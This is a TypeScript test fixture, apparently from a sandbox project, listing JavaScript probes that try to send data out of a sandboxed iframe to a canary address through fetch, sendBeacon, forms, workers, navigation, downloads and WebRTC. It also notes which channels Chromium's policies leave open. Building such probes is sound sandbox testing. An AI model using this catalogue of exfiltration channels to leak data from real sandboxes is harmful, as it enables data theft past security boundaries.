type Probe = readonly [name: string, body: string]

/**
 * Ways out of a document, for whoever had a script in the cage's frame. Programs have none: they run in its workers,
 * which have no document. `canary` is an address, `host` its host and port.
 */
export const heldInTheFrame: readonly Probe[] = [
  ['fetch', 'await fetch(canary, { mode: "no-cors" })'],
  ['beacon', 'navigator.sendBeacon(canary, "secret")'],
  ['image', 'new Image().src = canary'],
  ['style', 'add("link", { rel: "stylesheet", href: canary })'],
  ['script', 'add("script", { src: canary })'],
  ['object', 'add("object", { data: canary })'],
  ['media', 'add("video", { src: canary })'],
  ['prefetch', 'add("link", { rel: "prefetch", href: canary })'],
  ['preconnect', 'add("link", { rel: "preconnect", href: canary })'],
  ['modulepreload', 'add("link", { rel: "modulepreload", href: canary })'],
  ['manifest', 'add("link", { rel: "manifest", href: canary })'],
  ['form', 'add("form", { action: canary }).submit()'],
  ['popup', 'open(canary)'],
  ['top', 'top.location.href = canary'],
  ['parent', 'parent.location.replace(canary)'],
  ['link', 'add("a", { href: canary, target: "_blank" }).click()'],
  ['serviceworker', 'await navigator.serviceWorker.register(canary)'],
  ['sharedworker', 'new SharedWorker(canary)'],
  ['fetchlater', 'fetchLater(canary, { activateAfter: 0 })'],
]

/** What no policy of Chromium's holds in a document. */
export const openInTheFrame: readonly Probe[] = [
  [
    'webrtc',
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host }] }); p.createDataChannel("x"); await p.setLocalDescription()',
  ],
  ['navigation', 'location.href = canary'],
  ['download', 'add("a", { href: canary, download: "x" }).click()'],
  // Refused, but not before there is a connection for it; nothing is said over that.
  ['frame', 'add("iframe", { src: canary })'],
]

/** A script for the frame that tries one of them. */
export function framed(body: string, canary: string): string {
  return `
    const canary = ${JSON.stringify(canary)}, host = new URL(canary).host
    const add = (name, properties) => document.head.appendChild(Object.assign(document.createElement(name), properties))
    const tried = (async () => { ${body} })().then(() => 'done', String)
    tried.then((came) => parent.postMessage({ came }, '*'))`
}
